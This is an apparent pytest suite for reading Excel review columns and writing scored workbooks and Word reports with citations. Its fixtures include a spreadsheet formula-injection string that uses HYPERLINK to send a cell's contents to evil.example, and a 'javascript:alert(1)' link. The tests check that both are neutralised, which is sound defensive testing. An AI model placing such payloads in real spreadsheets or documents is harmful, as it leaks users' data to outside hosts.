"""Office files as skill input and output: a column of an Excel sheet in, scored workbook
and Word documents with citations out."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import docx
import openpyxl
import pytest

from copilot.office.docx import write_docx
from copilot.office.xlsx import TextColumn, WorkbookError, read_text_column
from copilot.office.xlsx_scored import write_scored_workbook
from copilot.skills.types import Aspect, Citation, SentimentResult

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


# --- building inputs -----------------------------------------------------------------------


def reviews_workbook(path: Path) -> Path:
    """A title line, a header on row 3, empty cells, a number, formulas and hostile text.

    Excel stores a formula's last result next to it; openpyxl cannot write one, so the
    cached value of B10 is patched into the sheet XML the way Excel would have saved it.
    """
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Reviews"
    ws["A1"] = "Customer reviews, March"
    ws.append([])
    ws.append(["ID", " Comment ", "Stars"])
    ws.append([1, "The battery died in a day.", 1])  # row 4
    ws.append([2, None, 3])  # row 5: empty
    ws.append([3, INJECTED, 2])  # row 6: text that looks like a formula
    ws["B6"].data_type = "s"
    ws.append([4, 42, 4])  # row 7: a number, not text
    ws.append([5, "   ", 4])  # row 8: blank text
    ws.append([6, "Great screen, lovely colours.", 5])  # row 9
    ws.append([7, '=B9&" (copied)"', 5])  # row 10: a formula
    ws.append([8, "-2 stars, would not buy", "=AVERAGE(C4:C10)"])  # row 11
    ws["C4"].font = openpyxl.styles.Font(bold=True)
    wb.create_sheet("Other")["A1"] = "untouched"
    wb.save(path)
    _patch(path, "xl/worksheets/sheet1.xml", '<c r="B10"><f>', '<c r="B10" t="str"><f>')
    _patch(path, "xl/worksheets/sheet1.xml", "</f><v></v></c>", "</f><v>Great (copied)</v></c>", 1)
    return path


def _patch(path: Path, member: str, old: str, new: str, count: int = -1) -> None:
    with zipfile.ZipFile(path) as zf:
        items = {info.filename: zf.read(info) for info in zf.infolist()}
    text = items[member].decode()
    assert old in text
    items[member] = text.replace(old, new, count).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in items.items():
            zf.writestr(name, data)


def results_for(column: TextColumn) -> list[SentimentResult]:
    labels = ["negative", "neutral", "positive", "positive", "negative"]
    battery = Aspect("battery", "negative", -0.62, "died in a day", 12, 25)
    out = []
    for (row, _text), label in zip(column.rows, labels, strict=False):
        score = {"negative": -0.6, "neutral": 0.0, "positive": 0.7}[label]
        aspects = [battery] if row == 4 else []
        out.append(SentimentResult(label, score, 0.8, aspects))
    return out


def citations() -> list[Citation]:
    files, mail = "https://files.example", "https://mail.example"
    return [
        Citation(1, "i1", "Budget 2025.xlsx", f"{files}/b", f"{files}/b#A2", {}, "Budget!A2:F7"),
        Citation(2, "i2", "Mail from Bob", f"{mail}/m/2", f"{mail}/m/2", {}, "message"),
        Citation(3, "i3", "Plan.docx", f"{files}/p", "javascript:alert(1)", {}, "paragraph 4–5"),
    ]


BODY = """# Where the money went

Spending grew by 4% [1]. Bob agreed [2, 3].
Again, the budget says so [1].

- Travel is over budget [1]
* Hiring is on plan [7]

Closing words."""


# --- reading a column ----------------------------------------------------------------------


def test_reads_text_cells_by_header_name(tmp_path: Path) -> None:
    column = read_text_column(reviews_workbook(tmp_path / "reviews.xlsx"), "comment")
    assert (column.sheet, column.column_letter, column.header, column.header_row) == (
        "Reviews",
        "B",
        "Comment",
        3,
    )
    assert column.rows == [
        (4, "The battery died in a day."),
        (6, INJECTED),  # text, kept verbatim
        (9, "Great screen, lovely colours."),
        (10, "Great (copied)"),  # the formula's cached value
        (11, "-2 stars, would not buy"),
    ]  # rows 5 (empty), 7 (a number) and 8 (blank) are skipped, their numbers kept


def test_reads_by_letter_and_by_sheet(tmp_path: Path) -> None:
    path = reviews_workbook(tmp_path / "reviews.xlsx")
    by_letter = read_text_column(path, "b", sheet="reviews")
    assert by_letter == read_text_column(path, "Comment")
    other = read_text_column(path, "A", sheet="Other")
    assert (other.header, other.header_row, other.rows) == ("untouched", 1, [])


def test_errors_name_the_problem(tmp_path: Path) -> None:
    path = reviews_workbook(tmp_path / "reviews.xlsx")
    with pytest.raises(WorkbookError, match=r"no sheet named 'Budget'.*'Reviews', 'Other'"):
        read_text_column(path, "Comment", sheet="Budget")
    with pytest.raises(WorkbookError, match=r"reviews.xlsx.*'Reviews'.*no column 'Feedback'.*'ID'"):
        read_text_column(path, "Feedback")
    with pytest.raises(WorkbookError, match="more than 2 text rows"):
        read_text_column(path, "Comment", max_rows=2)

    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(path.read_bytes()[:3000])
    with pytest.raises(WorkbookError, match=r"damaged\.xlsx is damaged"):
        read_text_column(damaged, "Comment")
    not_a_workbook = tmp_path / "notes.xlsx"
    not_a_workbook.write_text("ID,Comment\n1,hello\n")
    with pytest.raises(WorkbookError, match=r"notes\.xlsx is not an Excel workbook"):
        read_text_column(not_a_workbook, "Comment")
    encrypted = tmp_path / "secret.xlsx"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    encrypted.write_bytes(ole + "EncryptedPackage".encode("utf-16-le"))
    with pytest.raises(WorkbookError, match=r"secret\.xlsx is (encrypted|damaged)"):
        read_text_column(encrypted, "Comment")
    with pytest.raises(WorkbookError, match="no such file"):
        read_text_column(tmp_path / "missing.xlsx", "Comment")


def test_reads_a_workbook_whatever_its_name(tmp_path: Path) -> None:
    """An upload saved under a temporary name is judged by its content, not its extension."""
    path = reviews_workbook(tmp_path / "reviews.xlsx")
    upload = tmp_path / "upload.bin"
    shutil.copy(path, upload)
    assert read_text_column(upload, "Comment").rows == read_text_column(path, "Comment").rows


# --- writing the scored workbook -----------------------------------------------------------


def test_scored_workbook_keeps_the_original_and_lines_up(tmp_path: Path) -> None:
    src = reviews_workbook(tmp_path / "reviews.xlsx")
    column = read_text_column(src, "Comment")
    results = results_for(column)
    out = tmp_path / "reviews.scored.xlsx"
    write_scored_workbook(src, out, column, results, summary={"engine": "local"})

    before, after = openpyxl.load_workbook(src), openpyxl.load_workbook(out)
    assert after.sheetnames == ["Reviews", "Other", "Scored", "Summary"]
    for name in ("Reviews", "Other"):
        old, new = before[name], after[name]
        assert new.max_row == old.max_row and new.max_column == old.max_column
        for old_row, new_row in zip(old.iter_rows(), new.iter_rows(), strict=True):
            for a, b in zip(old_row, new_row, strict=True):
                assert (a.value, a.data_type) == (b.value, b.data_type), a.coordinate
    assert after["Reviews"]["B10"].value == '=B9&" (copied)"'  # still a formula
    assert after["Reviews"]["C11"].value == "=AVERAGE(C4:C10)"
    assert after["Reviews"]["C4"].font.bold

    # The Scored sheet is the user's sheet again, every column kept (ID and Stars filter
    # the scores), with the scores as new columns right of it, on each text's own row.
    scored = after["Scored"]
    assert [c.value for c in scored[3]] == [
        "ID", " Comment ", "Stars", "Label", "Score", "Confidence", "Aspects"
    ]  # fmt: skip
    assert scored.freeze_panes == "A4" and scored.auto_filter.ref == "A3:G11"
    for (row, text), result in zip(column.rows, results, strict=True):
        values = [c.value for c in scored[row]]
        assert values[0] == row - 3  # the user's ID, beside its scores
        assert values[3:6] == [result.label, result.score, result.confidence]
        assert before["Reviews"][f"B{row}"].value == text or row == 10
    assert scored["G4"].value == "battery (−0.62): died in a day"
    assert [scored.cell(row=r, column=4).value for r in (5, 7, 8)] == [None] * 3
    assert [scored.cell(row=r, column=3).value for r in (5, 7, 8)] == [3, 4, 4]  # Stars kept
    assert scored["C11"].value == "=AVERAGE(C4:C10)" and scored["C4"].font.bold
    assert scored["A1"].value == "Customer reviews, March"

    summary = after["Summary"]
    counts = {row[0]: row[1] for row in summary.iter_rows(min_row=2, max_row=6, values_only=True)}
    assert counts == {"positive": 2, "negative": 2, "neutral": 1, "mixed": 0, "total": 5}
    assert summary["C2"].value == pytest.approx(0.4)  # share of positive
    assert summary["D3"].value == pytest.approx(-0.6)  # mean score of negative
    assert [c.value for c in summary[8]][:3] == ["Aspect", "Mentions", "Mean score"]
    assert [c.value for c in summary[9]][:3] == ["battery", 1, pytest.approx(-0.62)]
    info = {row[0]: row[1] for row in summary.iter_rows(min_row=11, values_only=True)}
    assert info["engine"] == "local" and info["column"] == "Comment (B)"
    texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any("{" in t or "[" in t for t in texts), texts  # no Python dict text
    with zipfile.ZipFile(out) as zf:
        assert any(n.startswith("xl/charts/chart") for n in zf.namelist())
        chart = zf.read("xl/charts/chart1.xml").decode()
    assert "<barChart>" in chart and "<f>'Summary'!$B$2:$B$5</f>" in chart  # the counts


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    src = reviews_workbook(tmp_path / "reviews.xlsx")
    column = read_text_column(src, "Comment")
    out = tmp_path / "out.xlsx"
    write_scored_workbook(src, out, column, results_for(column))
    scored = openpyxl.load_workbook(out)["Scored"]
    for row in (6, 11):
        cell = scored[f"B{row}"]
        assert cell.data_type == "s", row
    assert scored["B6"].value == INJECTED
    assert scored["B6"].quotePrefix  # Excel keeps it text even when edited
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert not any("HYPERLINK" in s and "<f>HYPERLINK" in s for s in sheets)


def test_scored_workbook_refuses_bad_calls(tmp_path: Path) -> None:
    src = reviews_workbook(tmp_path / "reviews.xlsx")
    column = read_text_column(src, "Comment")
    results = results_for(column)
    with pytest.raises(ValueError, match="must line up"):
        write_scored_workbook(src, tmp_path / "out.xlsx", column, results[:-1])
    with pytest.raises(ValueError, match="refusing to overwrite the source"):
        write_scored_workbook(src, tmp_path / "." / "reviews.xlsx", column, results)
    assert read_text_column(src, "Comment") == column


def test_failed_workbook_write_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = reviews_workbook(tmp_path / "reviews.xlsx")
    column = read_text_column(src, "Comment")

    def broken_save(self: object, filename: str) -> None:
        Path(filename).write_bytes(b"PK half a file")
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
    out = tmp_path / "out.xlsx"
    with pytest.raises(OSError, match="disk full"):
        write_scored_workbook(src, out, column, results_for(column))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reviews.xlsx"]


# --- Word documents ------------------------------------------------------------------------


def _rels(zf: zipfile.ZipFile, member: str) -> dict[str, tuple[str, str, str | None]]:
    root = ET.fromstring(zf.read(member))
    return {r.get("Id"): (r.get("Type"), r.get("Target"), r.get("TargetMode")) for r in root}


def test_docx_with_a_source_list(tmp_path: Path) -> None:
    out = tmp_path / "answer.docx"
    meta = {"skill": "summarise", "engine": "local", "date": "2025-03-01"}
    write_docx(out, title="Budget\x07 summary", body=BODY, citations=citations(), meta=meta)

    document = docx.Document(str(out))
    paragraphs = [(p.style.name, p.text) for p in document.paragraphs]
    assert paragraphs[0] == ("Title", "Budget summary")  # the control character is gone
    assert paragraphs[1][1] == "skill: summarise · engine: local · date: 2025-03-01"
    assert ("Heading 1", "Where the money went") in paragraphs
    assert ("List Bullet", "Travel is over budget [1]") in paragraphs
    assert ("List Bullet", "Hiring is on plan [7]") in paragraphs
    assert any("Bob agreed [2, 3]." in text for _, text in paragraphs)  # markers kept as text
    sources = paragraphs[paragraphs.index(("Heading 1", "Sources")) + 1 :]
    assert [text.split("\t")[0] for _, text in sources] == ["[1]", "[2]", "[3]"]
    assert sources[0][1] == "[1]\tBudget 2025.xlsx, Budget!A2:F7 — https://files.example/b#A2"
    assert document.core_properties.title == "Budget summary"
    assert document.core_properties.subject == "summarise"

    with zipfile.ZipFile(out) as zf:
        rels = _rels(zf, "word/_rels/document.xml.rels")
        body = ET.fromstring(zf.read("word/document.xml"))
    links = {
        rels[h.get(f"{R}id")][1]: "".join(t.text for t in h.iter(f"{W}t"))
        for h in body.iter(f"{W}hyperlink")
    }
    assert links == {
        "https://files.example/b#A2": "https://files.example/b#A2",
        "https://mail.example/m/2": "https://mail.example/m/2",
        "https://files.example/p": "https://files.example/p",  # not the javascript: link
    }
    assert all(mode == "External" for kind, _, mode in rels.values() if kind.endswith("hyperlink"))


def test_docx_with_footnotes(tmp_path: Path) -> None:
    out = tmp_path / "answer.docx"
    write_docx(out, title="Budget", body=BODY, citations=citations(), style="footnotes")

    with zipfile.ZipFile(out) as zf:
        notes_xml = zf.read("word/footnotes.xml")
        types = ET.fromstring(zf.read("[Content_Types].xml"))
        rels = _rels(zf, "word/_rels/document.xml.rels")
        note_rels = _rels(zf, "word/_rels/footnotes.xml.rels")
        body = ET.fromstring(zf.read("word/document.xml"))
        styles = zf.read("word/styles.xml").decode()
    notes = ET.fromstring(notes_xml)  # well-formed
    overrides = {o.get("PartName"): o.get("ContentType") for o in types}
    assert overrides["/word/footnotes.xml"].endswith("wordprocessingml.footnotes+xml")
    assert ("footnotes.xml", None) in {
        (t, m) for k, t, m in rels.values() if k.endswith("/footnotes")
    }
    assert 'w:styleId="FootnoteText"' in styles and 'w:styleId="FootnoteReference"' in styles

    by_id = {n.get(f"{W}id"): n for n in notes.iter(f"{W}footnote")}
    assert by_id["-1"].get(f"{W}type") == "separator"
    assert by_id["0"].get(f"{W}type") == "continuationSeparator"
    real = {k: "".join(t.text for t in n.iter(f"{W}t")) for k, n in by_id.items() if int(k) > 0}
    assert real == {  # one note per cited source, in order of first citation
        "1": " Budget 2025.xlsx, Budget!A2:F7 — https://files.example/b#A2",
        "2": " Mail from Bob, message — https://mail.example/m/2",
        "3": " Plan.docx, paragraph 4–5 — https://files.example/p",
    }
    note_links = [note_rels[h.get(f"{R}id")][1] for h in notes.iter(f"{W}hyperlink")]
    assert note_links == [
        "https://files.example/b#A2",
        "https://mail.example/m/2",
        "https://files.example/p",
    ]

    references = [r.get(f"{W}id") for r in body.iter(f"{W}footnoteReference")]
    assert references == ["1", "2", "3"]  # each note referenced once...
    again = [t.text for t in body.iter(f"{W}instrText")]
    # ...and a citation repeated later is a cross-reference to its note's number
    assert again == [" NOTEREF _RefCite1 \\f \\h "] * 2

    document = docx.Document(str(out))  # python-docx still opens it
    texts = [p.text for p in document.paragraphs]
    assert not any("[1]" in t or "[2, 3]" in t for t in texts)
    assert "Hiring is on plan [7]" in texts  # not a known citation: left as written
    assert "Further sources" not in texts  # every citation became a footnote


def test_docx_footnotes_list_the_sources_nobody_cited(tmp_path: Path) -> None:
    out = tmp_path / "answer.docx"
    write_docx(out, title="T", body="No markers here.", citations=citations(), style="footnotes")
    with zipfile.ZipFile(out) as zf:
        assert "word/footnotes.xml" not in zf.namelist()
    texts = [p.text for p in docx.Document(str(out)).paragraphs]
    assert texts[-4] == "Further sources" and texts[-1].startswith("[3]\tPlan.docx")


def test_docx_survives_hostile_text(tmp_path: Path) -> None:
    out = tmp_path / "odd.docx"
    body = "Nul\x00 and bell\x07 and a lone surrogate \ud800 [1]\n\n" + "x" * 100_000
    hostile = Citation(1, "i", "Title\x0b<&>", "u", "https://e.example/?a=1&b=<2>", {}, "p\x01 1")
    write_docx(out, title="\x1b[31m" * 100, body=body, citations=[hostile], style="footnotes")
    document = docx.Document(str(out))
    assert document.paragraphs[1].text.startswith("Nul and bell and a lone surrogate")
    with zipfile.ZipFile(out) as zf:
        assert "Title&lt;&amp;&gt;, p 1" in zf.read("word/footnotes.xml").decode()


def test_failed_docx_write_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken_save(self: object, path: str) -> None:
        Path(path).write_bytes(b"PK half a file")
        raise OSError("disk full")

    monkeypatch.setattr(docx.document.Document, "save", broken_save)
    with pytest.raises(OSError, match="disk full"):
        write_docx(tmp_path / "a.docx", title="T", body="B", citations=citations())
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError, match=r"written as \.docx"):
        write_docx(tmp_path / "a.pdf", title="T", body="B", citations=[])
